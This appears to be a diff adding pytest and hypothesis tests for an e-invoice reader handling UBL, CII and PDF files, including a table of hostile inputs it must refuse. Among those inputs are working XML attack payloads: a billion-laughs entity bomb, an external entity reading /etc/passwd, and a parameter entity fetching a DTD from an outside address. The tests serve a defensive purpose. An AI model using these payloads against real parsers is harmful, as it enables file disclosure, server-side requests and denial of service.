@@ -1,0 +1,163 @@
+"""E-invoices: what is read from UBL, CII and hybrid PDFs, and what hostile files come to. Every document is written by these tests."""
+
+from __future__ import annotations
+
+import datetime as dt
+import time
+from contextlib import suppress
+from dataclasses import replace
+from decimal import Decimal
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from runs.workflows import invoice_samples as samples
+from runs.workflows.invoice_file import read_invoice
+from runs.workflows.invoice_model import Extra, Invoice, Line, NotAnInvoice, Party, Unread, dump, load
+from runs.workflows.invoice_reading import MAX_BYTES, MAX_ELEMENTS, InvoiceUnreadable
+from runs.workflows.invoice_rules import check
+from runs.workflows.invoice_sums import added_up
+from runs.workflows.invoice_writing import to_cii, to_pdf, to_ubl
+
+WRITERS = {"ubl": to_ubl, "cii": to_cii, "pdf": to_pdf}
+words = st.text(st.characters(codec="utf-8", exclude_categories=("C", "Z")), min_size=1, max_size=40)
+amounts = st.decimals(min_value="0.01", max_value="99999.99", places=2)
+rates = st.sampled_from([Decimal(0), Decimal(7), Decimal("8.1"), Decimal(19)])
+lines = st.builds(
+    Line,
+    id=words,
+    quantity=amounts,
+    unit=st.sampled_from(["C62", "HUR", "KGM"]),
+    net=amounts,
+    price=amounts,
+    price_base=st.none() | st.sampled_from([Decimal(1), Decimal(100)]),
+    allowances=st.just(Decimal(0)) | amounts,
+    charges=st.just(Decimal(0)) | amounts,
+    category=st.sampled_from(["S", "Z", "AE"]),
+    rate=rates,
+    name=words,
+    description=st.none() | words,
+    order_line=st.none() | words,
+    accounting=st.none() | words,
+)
+extras = st.builds(Extra, charge=st.booleans(), amount=amounts, category=st.just("S"), rate=rates, reason=st.none() | words)
+parties = st.builds(
+    Party, name=words, vat_id=st.none() | words, tax_number=st.none() | words, country=st.just("DE"), email=st.none() | words
+)
+dates = st.dates(min_value=dt.date(1990, 1, 1)).map(lambda day: day.isoformat())
+drafts = st.builds(
+    Invoice,
+    number=words,
+    issued=dates,
+    due=st.none() | dates,
+    delivered=st.none() | dates,
+    kind=st.sampled_from(["380", "384", "381"]),
+    currency=st.sampled_from(["EUR", "USD"]),
+    order=st.none() | words,
+    terms=st.none() | words,
+    preceding=st.none() | words,
+    profile=words,
+    means=st.just("30"),
+    iban=st.none() | words,
+    seller=parties,
+    buyer=parties,
+    prepaid=st.none() | amounts,
+    rounding=st.none() | amounts,
+)
+
+
+@pytest.mark.parametrize("writer", WRITERS)
+@given(draft=drafts, lines=st.lists(lines, min_size=1, max_size=4), extras=st.lists(extras, max_size=2))
+@settings(max_examples=40, deadline=None)
+def test_what_was_written_is_read_in_every_syntax(writer, draft, lines, extras):
+    """S3-24: a round trip through UBL, CII and a PDF keeps every term, whatever its characters."""
+    invoice = added_up(draft, lines, extras)
+    read = read_invoice(WRITERS[writer](invoice))
+    assert replace(read, syntax="") == invoice
+    assert read.syntax == ("UBL" if writer == "ubl" else "CII")
+
+
+@given(draft=drafts, lines=st.lists(lines, max_size=3))
+@settings(max_examples=50, deadline=None)
+def test_an_invoice_goes_into_the_state_and_comes_back(draft, lines):
+    """S3-3: JSON that keeps every decimal."""
+    invoice = added_up(draft, lines)
+    assert load(Invoice, dump(invoice)) == invoice
+
+
+@pytest.mark.parametrize(
+    "kept",
+    [
+        {"number": 7},
+        {"lines": {"id": "1"}},
+        {"gross": "NaN"},
+        {"gross": "x"},
+        {"gross": 1.5},
+        {"colour": "red"},
+        {"seller": []},
+        {"lines": [1]},
+    ],
+)
+def test_a_state_that_was_edited_into_something_else_is_refused(kept):
+    with pytest.raises(NotAnInvoice):
+        load(Invoice, kept)
+
+
+def test_a_number_or_date_that_is_none_is_told_and_not_guessed():
+    """1.234,56 is no amount of the standard, and the 30th of February no day."""
+    document = to_ubl(samples.correct()).replace(b">885.36<", b">1.885,36<").replace(b"2026-11-02", b"2026-02-30")
+    read = read_invoice(document)
+    assert (read.gross, read.payable, read.issued) == (None, None, None)
+    assert read.unread == (
+        Unread(term="BT-2", text="2026-02-30"),
+        Unread(term="BT-112", text="1.885,36"),
+        Unread(term="BT-115", text="1.885,36"),
+    )
+    assert {(one.term, one.kind) for one in check(read)} == {("BT-2", "missing"), ("BT-112", "missing"), ("BT-115", "missing")}
+
+
+LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
+OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
+PARAMETER = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd">%p;]><l/>'
+HOSTILE = {
+    "entities that grow": (LAUGHS, "hostile_xml"),
+    "an entity outside": (OUTSIDE, "hostile_xml"),
+    "an entity outside, in UTF-16": (OUTSIDE.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16"), "hostile_xml"),
+    "a parameter entity": (PARAMETER, "hostile_xml"),
+    "a bare document type": (b"<!DOCTYPE html><html/>", "hostile_xml"),
+    "nothing": (b" \n", "empty"),
+    "too many bytes": (b"<a/>" + b" " * MAX_BYTES, "too_large"),
+    "too many elements": (b"<a>" + b"<b/>" * (MAX_ELEMENTS + 1) + b"</a>", "too_large"),
+    "no XML": (b"\x00\xff\x12 garbage", "no_xml"),
+    "half XML": (to_ubl(samples.correct())[:-20], "no_xml"),
+    "an encoding that there is not": (b'<?xml version="1.0" encoding="klingon"?><a/>', "no_xml"),
+    "very deep": (b"<a>" * 100_000 + b"</a>" * 100_000, "unknown_syntax"),
+    "another document": (b"<Order/>", "unknown_syntax"),
+    "a name space of another version": (to_ubl(samples.correct()).replace(b"Invoice-2", b"Invoice-9"), "unknown_syntax"),
+    "garbage that says PDF": (b"%PDF-1.7 " + bytes(range(256)) * 40, "damaged_pdf"),
+    "half a PDF": (to_pdf(samples.correct())[:700], "damaged_pdf"),
+    "an encrypted PDF": (to_pdf(samples.correct(), password="secret"), "encrypted_pdf"),
+    "a PDF without an invoice": (to_pdf(samples.correct(), name="terms.xml"), "no_invoice_in_pdf"),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_file_that_is_no_invoice_is_refused_in_words(name):
+    content, code = HOSTILE[name]
+    began = time.monotonic()
+    with pytest.raises(InvoiceUnreadable) as refused:
+        read_invoice(content)
+    assert refused.value.code == code
+    assert str(refused.value).endswith(".")
+    assert "root:" not in str(refused.value)
+    assert time.monotonic() - began < 10
+
+
+@given(place=st.integers(min_value=0, max_value=3000), byte=st.integers(min_value=0, max_value=255), writer=st.sampled_from(list(WRITERS)))
+@settings(max_examples=150, deadline=None)
+def test_a_flipped_byte_is_read_or_refused_and_nothing_else(place, byte, writer):
+    content = bytearray(WRITERS[writer](samples.correct()))
+    content[place % len(content)] = byte
+    with suppress(InvoiceUnreadable):
+        check(read_invoice(bytes(content)))
